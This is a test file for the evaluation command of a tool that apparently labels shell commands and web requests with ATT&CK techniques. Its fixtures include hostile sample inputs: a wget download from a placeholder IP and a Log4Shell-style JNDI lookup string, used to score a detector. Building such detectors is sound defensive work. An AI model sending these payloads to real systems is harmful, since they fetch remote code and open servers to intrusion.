import assert from "assert";
import { directoryWith, runCaptured } from "../../captured_run.ts";

const CORPUS = {
  "lines.jsonl": [
    { id: "a", input: "wget http://192.0.2.1/x", must: ["T1105"], may: [] },
    { id: "b", input: "cd /tmp", must: [], may: [] },
    { id: "c", input: "echo hello", must: ["T1485"], may: [] },
  ].map((item) => JSON.stringify(item)).join("\n"),
  "tests.jsonl": JSON.stringify({
    technique: "T1082",
    name: "kernel",
    lines: ["true", "uname -a"],
  }),
  "plain.txt": "ls -la\nuseradd -m somebody\n",
  "abuse.jsonl": JSON.stringify({
    id: "g",
    function: "download",
    program: "wget",
    line: "wget http://192.0.2.1/x",
  }),
  "requests.jsonl": [
    { id: "w1", label: "attack", requests: [{ raw_url: "/?x=${jndi:ldap://192.0.2.1/a}" }] },
    { id: "w2", label: "ordinary", requests: [{ raw_url: "/index.html" }] },
  ].map((item) => JSON.stringify(item)).join("\n"),
  "traffic.jsonl": JSON.stringify({ count: 3, input: "cd /tmp" }),
};

const files = (path: string): readonly string[] =>
  Object.keys(CORPUS).map((name) => `${path}/${name}`);

Deno.test("eval measures honeypot lines, tests and ordinary commands in one run", async () => {
  using corpus = directoryWith(CORPUS);
  const { code, out } = await runCaptured(["eval", "--json", ...files(corpus.path)]);
  const report = JSON.parse(out);
  assert.equal(code, 0);
  assert.equal(report.tests.exact_recall, 1);
  assert.deepEqual([report.honeypot.right, report.honeypot.missed], [1, 1]);
  assert.equal(report.honeypot.clean, 1);
  assert.equal(report.benign.noisy, 1);
  assert.deepEqual(report.misses[0].technique, "T1485");
});

Deno.test("eval measures abused programs, requests and traffic in the same run", async () => {
  using corpus = directoryWith(CORPUS);
  const { out } = await runCaptured(["eval", "--json", ...files(corpus.path)]);
  const { abuse, requests, traffic } = JSON.parse(out);
  assert.equal(abuse.groups.download.share, 1);
  assert.deepEqual([requests.attack.share, requests.ordinary.noise], [1, 0]);
  assert.deepEqual([traffic.typed, traffic.typed_labelled], [3, 0]);
});

Deno.test("eval --split measures each entry in one of the two parts", async () => {
  const lines = Array.from({ length: 40 }, (_, index) => ({
    input: `wget http://192.0.2.1/${index}`,
    must: ["T1105"],
  }));
  using corpus = directoryWith({
    "lines.jsonl": lines.map((line) => JSON.stringify(line)).join("\n"),
  });
  const counts: number[] = [];
  for (const split of ["train", "test"]) {
    const { out } = await runCaptured([
      "eval",
      "--json",
      `${corpus.path}/lines.jsonl`,
      "--split",
      split,
    ]);
    counts.push(JSON.parse(out).honeypot?.count ?? 0);
  }
  const [train = 0, test = 0] = counts;
  assert.ok(test > 0 && train > test, counts.join());
  assert.equal(train + test, 40);
});

Deno.test("eval prints tables for people", async () => {
  using corpus = directoryWith(CORPUS);
  const { code, out } = await runCaptured(["eval", ...files(corpus.path)]);
  assert.equal(code, 0);
  assert.match(out, /tests +1 +exact recall +100\.00 %/);
  assert.match(out, /web attacks +1 +any technique +100\.00 %/);
  assert.match(out, /0\.8 to 0\.9 +1 +1 +0 +0 +100\.00 %/);
  assert.match(out, /Misses \(1\)\n.*\nT1485 +c /);
});

Deno.test("eval --min says no below a limit, and names it", async () => {
  using corpus = directoryWith(CORPUS);
  const paths = files(corpus.path);
  const passed = await runCaptured(["eval", ...paths, "--min", "exact_recall=0.9", "noise=0.5"]);
  assert.equal(passed.code, 0);
  const failed = await runCaptured(["eval", ...paths, "--min", "recall=0.9", "noise=0.1"]);
  assert.equal(failed.code, 1);
  assert.match(failed.err, /recall is 0\.5000, at least 0\.9/);
  assert.match(failed.err, /noise is 0\.5000, at most 0\.1/);
});

Deno.test("eval --compare shows what has changed since an earlier run", async () => {
  using corpus = directoryWith(CORPUS);
  const [lines = "", ...rest] = files(corpus.path);
  const before = await runCaptured(["eval", "--json", lines]);
  Deno.writeTextFileSync(`${corpus.path}/before.json`, before.out);
  Deno.writeTextFileSync(lines, '{"id":"a","input":"true","must":["T1105"],"may":[]}');
  const { out } = await runCaptured([
    "eval",
    lines,
    ...rest,
    "--compare",
    `${corpus.path}/before.json`,
  ]);
  assert.match(out, /New misses \(1\)\n.*\nT1105 +a /);
  assert.match(out, /Misses that are gone \(1\)\n.*\nT1485 +c /);
});

const REFUSED: readonly (readonly [what: string, args: readonly string[], message: RegExp])[] = [
  ["a figure that there is not", ["--min", "beauty=1"], /no figure beauty/],
  ["a limit that is no number", ["--min", "f1=high"], /--min needs a number/],
  ["a part that there is not", ["--split", "half"], /use all, train or test/],
  ["a comparison that is not there", ["--compare", "/nonexistent.json"], /cannot read/],
];

for (const [what, args, message] of REFUSED) {
  Deno.test(`eval refuses ${what}`, async () => {
    using corpus = directoryWith(CORPUS);
    const { code, err } = await runCaptured(["eval", files(corpus.path)[0] ?? "", ...args]);
    assert.equal(code, 2);
    assert.match(err, message);
  });
}
